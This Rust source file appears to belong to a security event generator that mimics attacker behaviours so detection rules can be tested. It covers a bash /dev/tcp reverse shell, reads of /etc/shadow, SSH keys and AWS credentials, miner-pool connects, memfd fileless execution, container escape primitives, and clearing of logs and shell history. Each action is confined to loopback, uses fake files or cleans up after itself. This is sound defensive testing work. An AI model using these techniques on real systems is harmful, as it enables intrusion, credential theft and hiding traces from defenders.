//! The actions. Each returns a JSON object describing what it did; [`run`]
//! adds the common fields (action, pid, container, workdir).

use std::ffi::CString;
use std::fs::{self, OpenOptions};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::{Path, PathBuf};
use std::process::{Command as Process, Stdio};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::cgroup::ContainerCgroup;
use crate::sys::{self, Cleanup, Exit};
use crate::{action, Error, Result, RunOptions};

const EVIL_COMM: &std::ffi::CStr = c"yagura-evil";
const IO_TIMEOUT: Duration = Duration::from_secs(5);

/// The work directory: the one given (created and removed if absent) or a fresh temp dir.
enum Workdir {
    Temp(tempfile::TempDir),
    Given { path: PathBuf, created: bool },
}

impl Workdir {
    fn new(given: Option<&Path>) -> Result<Self> {
        match given {
            None => tempfile::Builder::new()
                .prefix("yagura-eventgen-")
                .tempdir()
                .map(Workdir::Temp)
                .map_err(|e| Error::io("creating a temporary work directory", e)),
            Some(p) => {
                let created = !p.exists();
                if created {
                    fs::create_dir_all(p)
                        .map_err(|e| Error::io(format!("creating workdir {}", p.display()), e))?;
                }
                Ok(Workdir::Given {
                    path: p.to_path_buf(),
                    created,
                })
            }
        }
    }

    fn path(&self) -> &Path {
        match self {
            Workdir::Temp(t) => t.path(),
            Workdir::Given { path, .. } => path,
        }
    }

    fn finish(self) -> Result<()> {
        match self {
            Workdir::Temp(t) => {
                let p = t.path().to_path_buf();
                t.close()
                    .map_err(|e| Error::io(format!("removing workdir {}", p.display()), e))
            }
            Workdir::Given { path, created } if created => fs::remove_dir(&path)
                .map_err(|e| Error::io(format!("removing workdir {}", path.display()), e)),
            Workdir::Given { .. } => Ok(()),
        }
    }
}

/// Performs one action (entering the container cgroup first when asked) and
/// returns its JSON description.
///
/// Call it from a single-threaded process (the `yagura-eventgen` binary):
/// several actions fork and run Rust code in the child, and `--in-container`
/// moves the whole process between cgroups. Tests should run the binary.
pub fn run(opts: &RunOptions) -> Result<Value> {
    let info = action(&opts.action)
        .ok_or_else(|| Error::Usage(format!("unknown action {:?}", opts.action)))?;
    let work = Workdir::new(opts.workdir.as_deref())?;
    let container = match &opts.container_id {
        Some(id) => Some(ContainerCgroup::enter(id, opts.cgroup_layout)?),
        None => None,
    };
    let cgroup_lines = if container.is_some() {
        ContainerCgroup::current()?
    } else {
        Vec::new()
    };
    let result = dispatch(info.name, opts, work.path());
    let left = container.map_or(Ok(()), ContainerCgroup::leave);
    let wd = work.path().display().to_string();
    let finished = work.finish();
    let mut v = result?;
    left?;
    finished?;
    if let Value::Object(m) = &mut v {
        m.insert("action".into(), json!(info.name));
        m.insert("pid".into(), json!(std::process::id()));
        m.insert("container_id".into(), json!(opts.container_id));
        m.insert("cgroup".into(), json!(cgroup_lines));
        m.insert("workdir".into(), json!(wd));
    }
    Ok(v)
}

fn dispatch(name: &str, opts: &RunOptions, wd: &Path) -> Result<Value> {
    let p = |i: usize| opts.params.get(i).copied().unwrap_or(0);
    match name {
        "shell-in-container" => spawn_wait(Path::new("/bin/sh"), &["-c", "true"]),
        "read-shadow" => open_as_evil(Path::new("/etc/shadow")),
        "read-ssh-key" => read_ssh_key(),
        "read-aws-credentials" => read_aws_credentials(),
        "write-below-bin" => create_and_unlink(Path::new("/usr/local/bin/yagura-eventgen-test")),
        "write-below-etc" => create_and_unlink(Path::new("/etc/yagura-eventgen-test")),
        "package-manager-in-container" => package_manager(wd),
        "netcat-reverse-shell" => reverse_shell(),
        "miner-pool-connect" => miner_pool(opts.remote),
        "ptrace-attach" => ptrace_attach(),
        "kernel-module-load" => kernel_module(wd),
        "memfd-exec" => memfd_exec(),
        "drop-and-execute" => drop_and_execute(wd),
        "setuid-escalation" => setuid_escalation(),
        "setns-unshare-in-container" => setns_unshare(),
        "mount-host-path-in-container" => mount_host_path(wd),
        "release-agent-write" => release_agent(wd),
        "outbound-connect-untrusted" => outbound_untrusted(opts.remote),
        "log-clearing" => log_clearing(),
        "disable-history" => disable_history(wd),
        "open-close-loop" => open_close_loop(wd, p(0)),
        "fork-exec-loop" => fork_exec_loop(p(0)),
        "syscall-rate" => syscall_rate(wd, p(0), p(1)),
        other => Err(Error::Usage(format!("unknown action {other:?}"))),
    }
}

fn true_binary() -> Result<PathBuf> {
    sys::first_existing(&["/bin/true", "/usr/bin/true"])
        .ok_or_else(|| Error::Failed("no /bin/true or /usr/bin/true".into()))
}

/// Root's home for root (rules look at /root), else $HOME.
fn home_dir() -> PathBuf {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        return PathBuf::from("/root");
    }
    std::env::var_os("HOME").map_or_else(|| PathBuf::from("/root"), PathBuf::from)
}

/// Spawns `exe args...` with stdout to /dev/null and waits; fails on non-zero exit.
fn spawn_wait(exe: &Path, args: &[&str]) -> Result<Value> {
    let mut child = Process::new(exe)
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()
        .map_err(|e| Error::io(format!("spawning {}", exe.display()), e))?;
    let pid = child.id();
    let status = child
        .wait()
        .map_err(|e| Error::io(format!("waiting for {}", exe.display()), e))?;
    if !status.success() {
        return Err(Error::Failed(format!(
            "{} exited with {status}",
            exe.display()
        )));
    }
    Ok(json!({"child_pid": pid, "exe": exe, "args": args, "exit_code": status.code()}))
}

/// A child whose comm is `yagura-evil` opens `path` read-only.
fn open_as_evil(path: &Path) -> Result<Value> {
    let c = sys::cpath(path)?;
    let pid = sys::fork_child(|| match sys::set_comm(EVIL_COMM) {
        0 => sys::open_close(&c, libc::O_RDONLY),
        e => e,
    })?;
    sys::wait(pid)?.check(&format!("opening {} read-only", path.display()))?;
    Ok(json!({"child_pid": pid, "comm": "yagura-evil", "path": path, "flags": "O_RDONLY"}))
}

fn read_ssh_key() -> Result<Value> {
    let mut clean = Cleanup::default();
    let dir = home_dir().join(".ssh");
    let created_dir = clean.create_dir_if_absent(&dir, 0o700)?;
    let key = dir.join("id_yagura_test");
    sys::create_new_file(
        &key,
        b"-----BEGIN OPENSSH PRIVATE KEY-----\nyagura-eventgen test file, not a key\n-----END OPENSSH PRIVATE KEY-----\n",
        0o600,
    )?;
    clean.file(&key);
    let mut v = open_as_evil(&key)?;
    clean.finish()?;
    v["created_dir"] = json!(created_dir);
    Ok(v)
}

fn read_aws_credentials() -> Result<Value> {
    let mut clean = Cleanup::default();
    let dir = home_dir().join(".aws");
    let file = dir.join("credentials");
    // A real credentials file is only opened read-only, never modified.
    let preexisting = file.exists();
    let mut created_dir = false;
    if !preexisting {
        created_dir = clean.create_dir_if_absent(&dir, 0o700)?;
        sys::create_new_file(
            &file,
            b"[default]\naws_access_key_id = yagura-eventgen-fake\naws_secret_access_key = yagura-eventgen-fake\n",
            0o600,
        )?;
        clean.file(&file);
    }
    let mut v = open_as_evil(&file)?;
    clean.finish()?;
    v["preexisting"] = json!(preexisting);
    v["created_dir"] = json!(created_dir);
    Ok(v)
}

/// open(O_WRONLY|O_CREAT|O_EXCL), write, close, unlink.
fn create_and_unlink(path: &Path) -> Result<Value> {
    let mut clean = Cleanup::default();
    sys::create_new_file(path, b"yagura-eventgen\n", 0o644)?;
    clean.file(path);
    clean.finish()?;
    Ok(json!({"path": path, "flags": "O_WRONLY|O_CREAT|O_EXCL", "unlinked": true}))
}

fn package_manager(wd: &Path) -> Result<Value> {
    let mut clean = Cleanup::default();
    let exe = match sys::which("dpkg").or_else(|| sys::which("apt-get")) {
        Some(p) => p,
        None => {
            let fake = wd.join("dpkg");
            sys::copy_executable(&true_binary()?, &fake)?;
            clean.file(&fake);
            fake
        }
    };
    let v = spawn_wait(&exe, &["--version"])?;
    clean.finish()?;
    Ok(v)
}

fn loopback_listener(port: u16) -> Result<TcpListener> {
    TcpListener::bind((Ipv4Addr::LOCALHOST, port))
        .map_err(|e| Error::io(format!("listening on 127.0.0.1:{port}"), e))
}

/// Accepts one connection within [`IO_TIMEOUT`] and reads until EOF.
fn accept_and_read(l: &TcpListener) -> Result<(SocketAddr, String)> {
    let addr = l
        .local_addr()
        .map_err(|e| Error::io("listener address", e))?;
    l.set_nonblocking(true)
        .map_err(|e| Error::io(format!("listener {addr}"), e))?;
    let deadline = Instant::now() + IO_TIMEOUT;
    let (mut s, peer) = loop {
        match l.accept() {
            Ok(c) => break c,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                if Instant::now() > deadline {
                    return Err(Error::Failed(format!(
                        "no connection to {addr} within {IO_TIMEOUT:?}"
                    )));
                }
                std::thread::sleep(Duration::from_millis(5));
            }
            Err(e) => return Err(Error::io(format!("accepting on {addr}"), e)),
        }
    };
    s.set_nonblocking(false)
        .and_then(|()| s.set_read_timeout(Some(IO_TIMEOUT)))
        .map_err(|e| Error::io(format!("connection from {peer}"), e))?;
    let mut buf = Vec::new();
    // A short read (timeout) is fine: the connection itself is the behaviour.
    let _ = (&mut s).take(4096).read_to_end(&mut buf);
    Ok((peer, String::from_utf8_lossy(&buf).into_owned()))
}

fn reverse_shell() -> Result<Value> {
    let bash = sys::first_existing(&["/bin/bash", "/usr/bin/bash"])
        .ok_or_else(|| Error::Failed("bash not found (needed for /dev/tcp)".into()))?;
    let l = loopback_listener(0)?;
    let port = l
        .local_addr()
        .map_err(|e| Error::io("listener address", e))?
        .port();
    // Like `bash -i >& /dev/tcp/H/P 0>&1`: the shell connects and puts the
    // socket on stdin/stdout/stderr, then talks over it.
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{port}; exec 0<&3 1>&3 2>&3 3>&-; echo yagura-reverse-shell"
    );
    let mut child = Process::new(&bash)
        .args(["-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()
        .map_err(|e| Error::io(format!("spawning {}", bash.display()), e))?;
    let pid = child.id();
    let accepted = accept_and_read(&l);
    let status = child
        .wait()
        .map_err(|e| Error::io(format!("waiting for {}", bash.display()), e))?;
    let (peer, received) = accepted?;
    if !status.success() {
        return Err(Error::Failed(format!("reverse shell exited with {status}")));
    }
    Ok(json!({
        "child_pid": pid, "exe": bash, "args": ["-c", script],
        "listen": format!("127.0.0.1:{port}"), "peer": peer.to_string(),
        "received": received.trim_end(),
    }))
}

fn miner_pool(remote: Option<SocketAddr>) -> Result<Value> {
    let exe = std::env::current_exe().map_err(|e| Error::io("locating this executable", e))?;
    let (listener, target) = match remote {
        Some(r) => (None, r),
        None => {
            // Common stratum ports first; any port if both are taken.
            let l = loopback_listener(3333)
                .or_else(|_| loopback_listener(14444))
                .or_else(|_| loopback_listener(0))?;
            let a = l
                .local_addr()
                .map_err(|e| Error::io("listener address", e))?;
            (Some(l), a)
        }
    };
    let url = format!("stratum+tcp://{target}");
    let args = [
        "connect".to_string(),
        target.ip().to_string(),
        target.port().to_string(),
        url.clone(),
    ];
    let mut child = Process::new(&exe)
        .args(&args)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()
        .map_err(|e| Error::io(format!("spawning {}", exe.display()), e))?;
    let pid = child.id();
    let accepted = listener.as_ref().map(accept_and_read).transpose();
    let status = child
        .wait()
        .map_err(|e| Error::io(format!("waiting for {}", exe.display()), e))?;
    let accepted = accepted?;
    if listener.is_some() && !status.success() {
        return Err(Error::Failed(format!("miner helper exited with {status}")));
    }
    Ok(json!({
        "child_pid": pid, "exe": exe, "args": args, "target": target.to_string(),
        "connected": status.success(),
        "received": accepted.map(|(_, r)| r.trim_end().to_string()),
    }))
}

/// The `connect` helper: connects and, to a loopback listener only, sends a
/// stratum subscribe line (nothing is ever sent to a --remote host).
pub fn connect_helper(host: &str, port: u16) -> Result<()> {
    let ip: std::net::IpAddr = host
        .parse()
        .map_err(|_| Error::Usage(format!("connect wants an IP address, got {host:?}")))?;
    let addr = SocketAddr::new(ip, port);
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(2))
        .map_err(|e| Error::io(format!("connecting to {addr}"), e))?;
    if ip.is_loopback() {
        s.write_all(
            b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"yagura-eventgen\"]}\n",
        )
        .map_err(|e| Error::io(format!("writing to {addr}"), e))?;
    }
    Ok(())
}

fn ptrace_attach() -> Result<Value> {
    let pid = sys::fork_child(|| loop {
        // SAFETY: pause has no preconditions; the parent kills us.
        unsafe { libc::pause() };
    })?;
    let kill = |pid| {
        // SAFETY: signalling and reaping our own child.
        unsafe { libc::kill(pid, libc::SIGKILL) };
        sys::wait(pid)
    };
    let null = std::ptr::null_mut::<libc::c_void>();
    // SAFETY: PTRACE_ATTACH to our own child; addr/data unused.
    if unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, null, null) } != 0 {
        let e = Error::last_os(format!("PTRACE_ATTACH to child {pid}"));
        let _ = kill(pid);
        return Err(e);
    }
    let mut status = 0;
    // SAFETY: waiting for the attach stop of our own child.
    let stopped =
        unsafe { libc::waitpid(pid, &mut status, libc::__WALL) } == pid && libc::WIFSTOPPED(status);
    // SAFETY: detach from the tracee we attached to.
    let detached = unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, null, null) } == 0;
    let end = kill(pid)?;
    if !stopped {
        return Err(Error::Failed(format!(
            "child {pid} did not stop after PTRACE_ATTACH"
        )));
    }
    Ok(json!({
        "target_pid": pid, "request": "PTRACE_ATTACH", "detached": detached,
        "target_end": format!("{end:?}"),
    }))
}

fn errno_name(e: i32) -> String {
    std::io::Error::from_raw_os_error(e).to_string()
}

fn kernel_module(wd: &Path) -> Result<Value> {
    let mut clean = Cleanup::default();
    let empty = wd.join("yagura-empty.ko");
    sys::create_new_file(&empty, b"", 0o644)?;
    clean.file(&empty);
    let f =
        fs::File::open(&empty).map_err(|e| Error::io(format!("opening {}", empty.display()), e))?;
    // SAFETY: finit_module on an empty file: the kernel rejects it (no ELF).
    let r1 = unsafe { libc::syscall(libc::SYS_finit_module, f.as_raw_fd(), c"".as_ptr(), 0) };
    let e1 = if r1 == 0 { 0 } else { sys::errno() };
    drop(f);
    // 16 zero bytes are not an ELF image: init_module fails with ENOEXEC.
    let image = [0u8; 16];
    // SAFETY: valid buffer of the given length and an empty params string.
    let r2 = unsafe {
        libc::syscall(
            libc::SYS_init_module,
            image.as_ptr(),
            image.len(),
            c"".as_ptr(),
        )
    };
    let e2 = if r2 == 0 { 0 } else { sys::errno() };
    clean.finish()?;
    if r1 == 0 || r2 == 0 {
        return Err(Error::Failed("a module load unexpectedly succeeded".into()));
    }
    Ok(json!({
        "finit_module": {"path": empty, "errno": e1, "error": errno_name(e1)},
        "init_module": {"len": image.len(), "errno": e2, "error": errno_name(e2)},
    }))
}

fn memfd_exec() -> Result<Value> {
    const MFD_EXEC: libc::c_uint = 0x10; // Linux 6.3+; older kernels reject it
    let name = c"yagura-fileless";
    // SAFETY: memfd_create with a valid name.
    let mut fd = unsafe { libc::memfd_create(name.as_ptr(), libc::MFD_CLOEXEC | MFD_EXEC) };
    if fd < 0 && sys::errno() == libc::EINVAL {
        // SAFETY: as above.
        fd = unsafe { libc::memfd_create(name.as_ptr(), libc::MFD_CLOEXEC) };
    }
    if fd < 0 {
        return Err(Error::last_os("memfd_create yagura-fileless"));
    }
    // SAFETY: fd was just returned by memfd_create and is owned here.
    let mem = unsafe { OwnedFd::from_raw_fd(fd) };
    let src = true_binary()?;
    let bytes = fs::read(&src).map_err(|e| Error::io(format!("reading {}", src.display()), e))?;
    fs::File::from(mem.try_clone().map_err(|e| Error::io("dup memfd", e))?)
        .write_all(&bytes)
        .map_err(|e| Error::io("writing memfd yagura-fileless", e))?;
    let argv0 = sys::cstr("yagura-fileless")?;
    let argv = [argv0.as_ptr(), std::ptr::null()];
    let envp = [std::ptr::null::<libc::c_char>()];
    let raw = mem.as_raw_fd();
    let pid = sys::fork_child(|| {
        sys::null_stdout();
        // SAFETY: execveat(fd, "", argv, envp, AT_EMPTY_PATH) with NULL-terminated arrays.
        unsafe {
            libc::syscall(
                libc::SYS_execveat,
                raw,
                c"".as_ptr(),
                argv.as_ptr(),
                envp.as_ptr(),
                libc::AT_EMPTY_PATH,
            )
        };
        sys::errno()
    })?;
    let exit = sys::wait(pid)?;
    exit.check("execveat of memfd yagura-fileless")?;
    Ok(json!({
        "child_pid": pid, "memfd": "yagura-fileless", "source": src, "bytes": bytes.len(),
        "exec": "execveat(fd, \"\", AT_EMPTY_PATH)", "exit_code": exit.code(),
    }))
}

fn drop_and_execute(wd: &Path) -> Result<Value> {
    let mut clean = Cleanup::default();
    let dropped = wd.join("dropped-bin");
    sys::copy_executable(&true_binary()?, &dropped)?;
    clean.file(&dropped);
    let v = spawn_wait(&dropped, &[])?;
    clean.finish()?;
    Ok(v)
}

fn setuid_escalation() -> Result<Value> {
    const NOBODY: libc::uid_t = 65534;
    let pid = sys::fork_child(|| {
        // SAFETY: id changes in a single-threaded child that exits right after.
        unsafe {
            if libc::setresuid(NOBODY, NOBODY, 0) != 0 {
                return sys::errno();
            }
            if libc::setuid(0) != 0 {
                return sys::errno();
            }
            let (mut r, mut e, mut s) = (0, 0, 0);
            libc::getresuid(&mut r, &mut e, &mut s);
            if (r, e, s) != (NOBODY, 0, 0) {
                return 201;
            }
        }
        0
    })?;
    sys::wait(pid)?.check("setresuid(65534,65534,0) then setuid(0)")?;
    Ok(json!({
        "child_pid": pid,
        "before": {"ruid": NOBODY, "euid": NOBODY, "suid": 0},
        "call": "setuid(0)",
        "after": {"ruid": NOBODY, "euid": 0, "suid": 0},
    }))
}

/// The unsharing child stays alive (paused) as the owner of fresh mount and
/// UTS namespaces; a second child setns()es into that mount namespace. The
/// target is our own namespace rather than pid 1's: joining the host's init
/// namespace is the same syscall, and pid 1 may belong to a supervisor that
/// must not be touched (and that refuses it, EACCES, in some sandboxes).
fn setns_unshare() -> Result<Value> {
    let mut fds = [0; 2];
    // SAFETY: pipe2 fills two fds.
    if unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) } != 0 {
        return Err(Error::last_os("pipe2"));
    }
    // SAFETY: both fds were just created and are owned here.
    let (rd, wr) = unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) };
    let wr_raw = wr.as_raw_fd();
    let holder = sys::fork_child(|| {
        // SAFETY: the child unshares its own namespaces, reports, and waits to be killed.
        unsafe {
            let ok: u8 = if libc::unshare(libc::CLONE_NEWNS | libc::CLONE_NEWUTS) == 0 {
                0
            } else {
                sys::errno() as u8
            };
            libc::write(wr_raw, (&ok as *const u8).cast(), 1);
            loop {
                libc::pause();
            }
        }
    })?;
    drop(wr);
    let reap = |pid| {
        // SAFETY: signalling and reaping our own child.
        unsafe { libc::kill(pid, libc::SIGKILL) };
        sys::wait(pid)
    };
    let mut status = [0u8; 1];
    let got = fs::File::from(rd).read(&mut status);
    match got {
        Ok(1) if status[0] == 0 => {}
        Ok(1) => {
            reap(holder)?;
            return Err(Error::io(
                "unshare(CLONE_NEWNS|CLONE_NEWUTS)",
                std::io::Error::from_raw_os_error(i32::from(status[0])),
            ));
        }
        other => {
            reap(holder)?;
            return Err(Error::Failed(format!(
                "unshare child {holder} did not report: {other:?}"
            )));
        }
    }
    let ns_path = format!("/proc/{holder}/ns/mnt");
    let ns = sys::cstr(&ns_path)?;
    let setns_pid = sys::fork_child(|| {
        // SAFETY: the child joins the holder's mount namespace and exits at once.
        unsafe {
            let fd = libc::open(ns.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC);
            if fd < 0 {
                return sys::errno();
            }
            if libc::setns(fd, libc::CLONE_NEWNS) != 0 {
                return sys::errno();
            }
        }
        0
    });
    let joined = setns_pid.and_then(|pid| Ok((pid, sys::wait(pid)?)));
    reap(holder)?;
    let (setns_pid, exit) = joined?;
    exit.check(&format!("setns({ns_path}, CLONE_NEWNS)"))?;
    Ok(json!({
        "unshare": {"child_pid": holder, "flags": "CLONE_NEWNS|CLONE_NEWUTS"},
        "setns": {"child_pid": setns_pid, "path": ns_path, "nstype": "CLONE_NEWNS"},
    }))
}

/// In the child: a private mount namespace, so nothing leaks to the host
/// even if the child dies mid-way. 0 or errno.
fn private_mount_ns() -> i32 {
    // SAFETY: unshare/mount on the child's own new namespace.
    unsafe {
        if libc::unshare(libc::CLONE_NEWNS) != 0 {
            return sys::errno();
        }
        if libc::mount(
            std::ptr::null(),
            c"/".as_ptr(),
            std::ptr::null(),
            libc::MS_REC | libc::MS_PRIVATE,
            std::ptr::null(),
        ) != 0
        {
            return sys::errno();
        }
    }
    0
}

fn mount_host_path(wd: &Path) -> Result<Value> {
    let mut clean = Cleanup::default();
    let mnt = wd.join("mnt");
    clean.create_dir_if_absent(&mnt, 0o755)?;
    let c = sys::cpath(&mnt)?;
    let pid = sys::fork_child(|| {
        let e = private_mount_ns();
        if e != 0 {
            return e;
        }
        // SAFETY: bind mount of / in our private namespace, then unmount it.
        unsafe {
            if libc::mount(
                c"/".as_ptr(),
                c.as_ptr(),
                std::ptr::null(),
                libc::MS_BIND,
                std::ptr::null(),
            ) != 0
            {
                return sys::errno();
            }
            if libc::umount2(c.as_ptr(), 0) != 0 {
                return sys::errno();
            }
        }
        0
    })?;
    sys::wait(pid)?.check(&format!("bind-mounting / on {}", mnt.display()))?;
    clean.finish()?;
    Ok(json!({"child_pid": pid, "source": "/", "target": mnt, "flags": "MS_BIND"}))
}

fn release_agent(wd: &Path) -> Result<Value> {
    // Child exit codes: 0 done, 1 could not mount (use the fallback), else errno+2 of open.
    let mut clean = Cleanup::default();
    let cg = wd.join("cg");
    clean.create_dir_if_absent(&cg, 0o755)?;
    let c_cg = sys::cpath(&cg)?;
    let agent = cg.join("release_agent");
    let c_agent = sys::cpath(&agent)?;
    let pid = sys::fork_child(|| {
        if private_mount_ns() != 0 {
            return 1;
        }
        // SAFETY: mounts a fresh named v1 hierarchy (no controllers) in our
        // private namespace; unmounting it destroys the empty hierarchy.
        unsafe {
            if libc::mount(
                c"cgroup".as_ptr(),
                c_cg.as_ptr(),
                c"cgroup".as_ptr(),
                libc::MS_NOSUID | libc::MS_NODEV | libc::MS_NOEXEC,
                c"none,name=yagura-test".as_ptr().cast(),
            ) != 0
            {
                return 1;
            }
            let r = sys::open_close(&c_agent, libc::O_WRONLY);
            libc::umount2(c_cg.as_ptr(), 0);
            if r != 0 {
                return (r + 2).min(199);
            }
        }
        0
    })?;
    let exit = sys::wait(pid)?;
    let v = match exit {
        Exit::Code(0) => json!({
            "child_pid": pid, "mode": "cgroup-v1-mount", "mount": cg,
            "options": "none,name=yagura-test", "path": agent, "flags": "O_WRONLY",
        }),
        Exit::Code(1) => {
            // No cgroup v1 mount possible here: a plain file of the same name.
            let plain = wd.join("release_agent");
            sys::create_new_file(&plain, b"", 0o644)?;
            clean.file(&plain);
            let c_plain = sys::cpath(&plain)?;
            let pid = sys::fork_child(|| sys::open_close(&c_plain, libc::O_WRONLY))?;
            sys::wait(pid)?.check(&format!("opening {} O_WRONLY", plain.display()))?;
            json!({"child_pid": pid, "mode": "plain-file", "path": plain, "flags": "O_WRONLY"})
        }
        Exit::Code(c) if c < 200 => {
            return Err(Error::io(
                format!("opening {} O_WRONLY", agent.display()),
                std::io::Error::from_raw_os_error(c - 2),
            ))
        }
        other => {
            return Err(Error::Failed(format!(
                "release-agent child {pid} ended with {other:?}"
            )))
        }
    };
    clean.finish()?;
    let mut v = v;
    v["hierarchy_released"] = json!(wait_hierarchy_released());
    Ok(v)
}

/// The kernel frees an unmounted, empty v1 hierarchy asynchronously; wait
/// for it so that later processes do not show a `name=yagura-test` line.
fn wait_hierarchy_released() -> bool {
    for _ in 0..250 {
        match fs::read_to_string("/proc/self/cgroup") {
            Ok(t) if !t.contains(":name=yagura-test:") => return true,
            Ok(_) => std::thread::sleep(Duration::from_millis(20)),
            Err(_) => return false,
        }
    }
    false
}

fn outbound_untrusted(remote: Option<SocketAddr>) -> Result<Value> {
    let (listener, target) = match remote {
        Some(r) => (None, r),
        None => {
            let l = loopback_listener(0)?;
            let a = l
                .local_addr()
                .map_err(|e| Error::io("listener address", e))?;
            (Some(l), a)
        }
    };
    let local = listener.is_some();
    let pid = sys::fork_child(|| {
        let e = sys::set_comm(c"cat");
        if e != 0 {
            return e;
        }
        match TcpStream::connect_timeout(&target, Duration::from_secs(2)) {
            Ok(mut s) => {
                // Data only goes to our own listener, never to a --remote host.
                if local {
                    let _ = s.write_all(b"yagura-eventgen\n");
                }
                0
            }
            Err(e) if e.kind() == std::io::ErrorKind::TimedOut => libc::ETIMEDOUT,
            Err(e) => e.raw_os_error().unwrap_or(199).min(199),
        }
    })?;
    let accepted = listener.as_ref().map(accept_and_read).transpose();
    let exit = sys::wait(pid)?;
    let accepted = accepted?;
    if listener.is_some() {
        exit.check(&format!("connecting to {target}"))?;
    }
    Ok(json!({
        "child_pid": pid, "comm": "cat", "comm_set_by": "prctl(PR_SET_NAME)",
        "target": target.to_string(), "connected": exit == Exit::Code(0),
        "connect_errno": exit.code().filter(|c| *c != 0),
        "received": accepted.map(|(_, r)| r.trim_end().to_string()),
    }))
}

fn log_clearing() -> Result<Value> {
    let mut clean = Cleanup::default();
    let log = Path::new("/var/log/yagura-eventgen.log");
    sys::create_new_file(
        log,
        b"yagura-eventgen line 1\nyagura-eventgen line 2\n",
        0o640,
    )?;
    clean.file(log);
    OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(log)
        .map_err(|e| Error::io(format!("truncating {}", log.display()), e))?;
    clean.finish()?;
    Ok(json!({"path": log, "flags": "O_WRONLY|O_TRUNC", "unlinked": true}))
}

fn disable_history(wd: &Path) -> Result<Value> {
    let mut clean = Cleanup::default();
    let shell = spawn_wait(
        Path::new("/bin/sh"),
        &["-c", "unset HISTFILE; export HISTFILE=/dev/null; true"],
    )?;
    let hist = wd.join(".bash_history");
    sys::create_new_file(&hist, b"ls\nid\n", 0o600)?;
    clean.file(&hist);
    OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(&hist)
        .map_err(|e| Error::io(format!("truncating {}", hist.display()), e))?;
    fs::remove_file(&hist).map_err(|e| Error::io(format!("removing {}", hist.display()), e))?;
    std::os::unix::fs::symlink("/dev/null", &hist)
        .map_err(|e| Error::io(format!("symlinking {} to /dev/null", hist.display()), e))?;
    clean.finish()?;
    Ok(json!({
        "shell": shell, "history_file": hist,
        "steps": ["open O_WRONLY|O_TRUNC", "unlink", "symlink -> /dev/null", "unlink"],
    }))
}

fn rate(n: u64, secs: f64) -> f64 {
    if secs > 0.0 {
        n as f64 / secs
    } else {
        0.0
    }
}

fn open_close_loop(wd: &Path, n: u64) -> Result<Value> {
    let mut clean = Cleanup::default();
    let file = wd.join("loop-file");
    sys::create_new_file(&file, b"", 0o644)?;
    clean.file(&file);
    let c = sys::cpath(&file)?;
    let start = Instant::now();
    for _ in 0..n {
        let e = sys::open_close(&c, libc::O_RDONLY);
        if e != 0 {
            return Err(Error::io(
                format!("opening {}", file.display()),
                std::io::Error::from_raw_os_error(e),
            ));
        }
    }
    let secs = start.elapsed().as_secs_f64();
    clean.finish()?;
    Ok(json!({"path": file, "iterations": n, "elapsed_s": secs, "ops_per_s": rate(n, secs)}))
}

fn fork_exec_loop(n: u64) -> Result<Value> {
    let t = true_binary()?;
    let exe = sys::cpath(&t)?;
    let argv0: CString = exe.clone();
    let argv = [argv0.as_ptr(), std::ptr::null()];
    let start = Instant::now();
    for _ in 0..n {
        let pid = sys::fork_child(|| {
            // SAFETY: NULL-terminated argv; environ is inherited.
            unsafe { libc::execv(exe.as_ptr(), argv.as_ptr()) };
            sys::errno()
        })?;
        sys::wait(pid)?.check(&format!("exec {}", t.display()))?;
    }
    let secs = start.elapsed().as_secs_f64();
    Ok(json!({"exe": t, "iterations": n, "elapsed_s": secs, "ops_per_s": rate(n, secs)}))
}

/// Paced open+close pairs: every few hundred pairs, compare with the
/// schedule and sleep when ahead, so the rate is steady rather than bursty.
fn syscall_rate(wd: &Path, target_rate: u64, seconds: u64) -> Result<Value> {
    let mut clean = Cleanup::default();
    let file = wd.join("rate-file");
    sys::create_new_file(&file, b"", 0o644)?;
    clean.file(&file);
    let c = sys::cpath(&file)?;
    let pairs_per_s = target_rate as f64 / 2.0;
    let total = Duration::from_secs(seconds);
    let (mut pairs, mut sleeps) = (0u64, 0u64);
    let start = Instant::now();
    loop {
        let el = start.elapsed();
        if el >= total {
            break;
        }
        let due = (pairs_per_s * el.as_secs_f64()) as u64;
        if pairs < due {
            for _ in 0..(due - pairs).min(256) {
                let e = sys::open_close(&c, libc::O_RDONLY);
                if e != 0 {
                    return Err(Error::io(
                        format!("opening {}", file.display()),
                        std::io::Error::from_raw_os_error(e),
                    ));
                }
                pairs += 1;
            }
        } else {
            std::thread::sleep(Duration::from_micros(200));
            sleeps += 1;
        }
    }
    let secs = start.elapsed().as_secs_f64();
    clean.finish()?;
    Ok(json!({
        "path": file, "target_rate": target_rate, "seconds": seconds,
        "opens": pairs, "closes": pairs, "syscalls": pairs * 2,
        "achieved_rate": rate(pairs * 2, secs), "elapsed_s": secs, "sleeps": sleeps,
    }))
}
